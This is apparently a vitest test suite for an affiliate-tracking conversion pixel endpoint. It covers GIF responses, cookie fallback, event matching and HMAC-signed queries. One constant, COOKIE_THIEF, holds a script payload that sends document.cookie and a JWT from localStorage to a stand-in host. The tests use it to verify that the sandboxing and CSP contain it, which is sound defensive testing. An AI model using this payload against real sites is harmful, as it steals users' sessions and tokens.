import crypto from 'node:crypto';
import { request } from 'undici';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../helpers/test-app.ts';
import { createPublisher } from '../helpers/factories.ts';
import { click, createTrackedOffer, createTrackingPostback } from '../helpers/tracking-factories.ts';

const COOKIE_THIEF = `<script>fetch('/api/v1/user/me.json',{credentials:'include'});new Image().src='https://pub.example/steal?c='+document.cookie+localStorage.getItem('jwt_token')</script><img src='https://pub.example/px?tid={tid}&s1={s1}'>`;

describe('conversion pixel', () => {
  let t: TestApp;
  beforeAll(async () => {
    // The tracking domain is separate from the portal's, as in production.
    t = await createTestApp({ PUBLIC_URL: 'http://portal.test:8080', PUBLIC_TRACKING_URL: 'http://127.0.0.1:9' });
  });
  afterAll(() => t.close());

  async function setup(pixels: string[] = []) {
    const pub = await createPublisher(t);
    const offer = await createTrackedOffer(t, {
      conversion_method: 'pixel',
      extraEvents: [{ name: 'Upsell', event_type: 'upsell', payout: 1 }],
    });
    for (const value of pixels)
      await createTrackingPostback(t, pub.publisherId, { type: 'pixel', value, offer_id: offer.offerId });
    const c = await click(t, offer.offerId, pub.publisherId, { s1: "it's <b>" });
    return { pub, offer, tid: c.tid!, cookie: c.cookie!.split(';')[0]! };
  }

  it('records the conversion and answers a 1×1 GIF when the publisher has no pixel', async () => {
    const { offer, tid } = await setup();
    const r = await fetch(`${t.url}/pixel?tid=${tid}`);
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toBe('image/gif');
    expect(
      Buffer.from(await r.arrayBuffer())
        .subarray(0, 6)
        .toString(),
    ).toBe('GIF89a');
    expect(r.headers.get('cross-origin-resource-policy')).toBe('cross-origin');
    const rows = await t.app.ctx.db
      .selectFrom('conversions')
      .selectAll()
      .where('offer_id', '=', offer.offerId)
      .execute();
    expect(rows).toHaveLength(1);
    expect(rows[0]!.source).toBe('pixel');
  });

  it('uses the click cookie when the URL has no tid', async () => {
    const { offer, cookie } = await setup();
    const r = await fetch(`${t.url}/pixel`, { headers: { cookie } });
    expect(r.status).toBe(200);
    expect(
      await t.app.ctx.db.selectFrom('conversions').select('id').where('offer_id', '=', offer.offerId).execute(),
    ).toHaveLength(1);
  });

  it('B7: publisher pixels run in sandboxed frames without allow-same-origin, in a sandboxed document', async () => {
    const { tid } = await setup([COOKIE_THIEF, '<img src="https://pub2.example/p?e={event_id}">']);
    const r = await fetch(`${t.url}/pixel?tid=${tid}`);
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toMatch(/^text\/html/);
    const csp = r.headers.get('content-security-policy')!;
    expect(csp).toMatch(/^sandbox allow-scripts;/);
    expect(csp).not.toContain('allow-same-origin');
    expect(csp).toContain("base-uri 'none'");
    expect(r.headers.get('x-frame-options')).toBeNull();
    const html = await r.text();
    const frames = html.match(/<iframe [^>]*>/g)!;
    expect(frames).toHaveLength(2);
    for (const f of frames) {
      expect(f).toContain('sandbox="allow-scripts"');
      expect(f).not.toContain('allow-same-origin');
      expect(f).toMatch(/srcdoc="[^"<>]*"/);
    }
    // The pixel's own markup is inside the attribute, escaped; no script runs in the outer document.
    expect(html.replace(/srcdoc="[^"]*"/g, '')).not.toContain('<script');
    expect(html).toContain('px?tid=' + tid);
    expect(html).toContain('s1=it%27s%20%3Cb%3E');
  });

  it('B7: pixel HTML is never served from the portal origin', async () => {
    const { tid } = await setup([COOKIE_THIEF]);
    const r = await request(`${t.url}/pixel?tid=${tid}`, { headers: { host: 'portal.test:8080' } });
    await r.body.arrayBuffer();
    expect(r.statusCode).toBe(404);
    expect(r.headers['content-type']).toBe('image/gif');
    expect(
      await t.app.ctx.db.selectFrom('conversions').select('id').where('click_id', '=', tid).execute(),
    ).toHaveLength(0);
  });

  it('a repeat or an unknown tid answers the GIF and fires nothing again', async () => {
    const { tid } = await setup(['<img src="https://pub.example/x">']);
    expect((await fetch(`${t.url}/pixel?tid=${tid}`)).headers.get('content-type')).toMatch(/html/);
    const again = await fetch(`${t.url}/pixel?tid=${tid}`);
    expect(again.headers.get('content-type')).toBe('image/gif');
    const unknown = await fetch(`${t.url}/pixel?tid=nope`);
    expect(unknown.status).toBe(200);
    expect(unknown.headers.get('content-type')).toBe('image/gif');
    const refusal = await t.app.ctx.db
      .selectFrom('conversion_refusals')
      .selectAll()
      .where('tid', '=', 'nope')
      .executeTakeFirstOrThrow();
    expect(refusal).toMatchObject({ reason: 'unknown_tid', source: 'pixel' });
  });

  it('only fires pixels matching the event', async () => {
    const pub = await createPublisher(t);
    const offer = await createTrackedOffer(t, {
      conversion_method: 'both',
      extraEvents: [{ name: 'Upsell', event_type: 'upsell', payout: 1 }],
    });
    await createTrackingPostback(t, pub.publisherId, {
      type: 'pixel',
      value: '<img src="https://a.example/base">',
      event_id: offer.baseEventId,
    });
    await createTrackingPostback(t, pub.publisherId, {
      type: 'pixel',
      value: '<img src="https://a.example/upsell">',
      event_type: 'upsell',
    });
    await createTrackingPostback(t, pub.publisherId, {
      type: 'pixel',
      value: '<img src="https://a.example/off">',
      status: 'inactive',
    });
    const c = await click(t, offer.offerId, pub.publisherId);
    // An event other than the base one is paid only from a query the advertiser signed.
    const query = `tid=${c.tid}&event_id=${offer.events['Upsell']}`;
    const sig = crypto.createHmac('sha256', offer.pixelSecret).update(query).digest('hex');
    const html = await (await fetch(`${t.url}/pixel?${query}&sig=${sig}`)).text();
    expect(html).toContain('a.example/upsell');
    expect(html).not.toContain('a.example/base');
    expect(html).not.toContain('a.example/off');
  });
});
